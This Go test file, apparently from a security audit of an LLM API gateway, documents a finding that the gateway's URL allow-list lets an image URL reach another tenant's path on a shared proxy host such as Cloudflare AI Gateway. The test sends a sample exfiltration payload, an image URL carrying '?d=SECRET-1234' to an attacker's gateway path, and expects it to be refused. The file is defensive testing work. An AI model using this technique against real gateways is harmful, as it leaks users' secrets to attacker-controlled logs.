package gateway

import (
	"net/url"
	"testing"
)

// FINDING (medium, configuration-dependent): allowedURL lets through any
// https URL whose host is the provider's base URL host, whatever its
// path. That host is only the provider's own when the base URL is the
// provider's API root. A documented way to reach Anthropic, OpenAI or
// Gemini is a shared proxy host with the tenant in the path: Cloudflare
// AI Gateway's base URL is https://gateway.ai.cloudflare.com/v1/
// <account_id>/<gateway_id>/anthropic (docs.openclaw.ai/providers/
// cloudflare-ai-gateway; promptfoo.dev "Cloudflare AI Gateway"), and
// every Cloudflare customer's gateway is on that host, logging each
// request it gets (the AI Gateway logs API lists each log's "path"). An
// image {"type":"url","url":"https://gateway.ai.cloudflare.com/v1/
// <attacker>/<gw>/...?d=SECRET"} is fetched by Anthropic from the
// attacker's gateway, which records the query. The gateway itself already
// treats the base path as the boundary of the upstream (gatewayURL drops
// a Location on the upstream's host outside the base path); allowedURL
// should too (or allow only the provider's Files API paths).
func TestAttackProviderToolsOwnHostOtherTenant(t *testing.T) {
	const base = "/v1/tenant-a/gw-a/anthropic"
	e := newEnv(t, defaultPaths(nil), func(o *Options) {
		pc := o.Providers["anthropic"]
		pc.BaseURL += base
		o.Providers["anthropic"] = pc
	})
	tok := e.mint(t, Grant{Providers: []string{"anthropic"}}).Token
	u, err := url.Parse(e.up["anthropic"].srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	// The request itself goes through (the gateway joins the base path).
	attackExpectForwarded(t, e, tok, "anthropic", "/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":"hi"}]}`)
	if got := e.up["anthropic"].last(t).Path; got != base+"/v1/messages" {
		t.Fatalf("upstream path %q, want %q", got, base+"/v1/messages")
	}
	attackExpectRefused(t, e, tok, "anthropic", "/v1/messages",
		`{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://`+u.Host+`/v1/attacker-acct/attacker-gw/anthropic/x.png?d=SECRET-1234"}},{"type":"text","text":"describe"}]}]}`, nil)
}
